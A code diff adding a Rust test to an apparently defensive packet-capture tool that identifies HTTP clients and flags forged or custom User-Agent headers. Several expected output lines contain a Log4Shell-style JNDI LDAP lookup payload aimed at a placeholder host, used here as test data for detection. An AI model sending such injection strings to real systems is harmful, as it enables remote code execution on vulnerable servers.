@@ -52,6 +52,29 @@ fn implausible_distance_is_not_shown() {
 }
 
 #[test]
+fn text_that_contradicts_stands_beside_the_name() {
+    let capture = captures::path("http-forged.pcap").display().to_string();
+    let lines = run(&["pcap", &*capture]);
+    for line in [
+        r#"curl 7.43 or newer (dishonest) "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/12...", GET"#,
+        r#"curl 7.43 or newer (custom User-Agent) "${jndi:ldap://192.0.2.9:1389/a}", GET"#,
+        // The text has the name.
+        r#"curl 7.43 or newer "curl/8.5.0 ${jndi:ldap://192.0.2.9:1389/a}", GET"#,
+        "nginx or made of it (OpenResty, Tengine), 200 OK",
+        "curl (dishonest) (1)",
+    ] {
+        assert!(lines.contains(line), "{line}: {lines}");
+    }
+    for view in [&["pcap", "-q", "-v"][..], &["pcap", "-q", "--summary"], &["report", "-o", "-"]] {
+        let text = run(&[view, &[&*capture]].concat());
+        assert!(text.contains("curl/8.5.0 ${jndi:ldap://192.0.2.9:1389/a}"), "{view:?}: {text}");
+    }
+    let hosts =
+        run(&["pcap", "-q", "--summary", &captures::path("http-imitation.pcap").display().to_string()]);
+    assert!(hosts.contains("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleW..."), "{hosts}");
+}
+
+#[test]
 fn header_of_another_product_says_so_in_every_view() {
     let capture = captures::path("http-imitation.pcap").display().to_string();
     let views: [&[&str]; 4] =
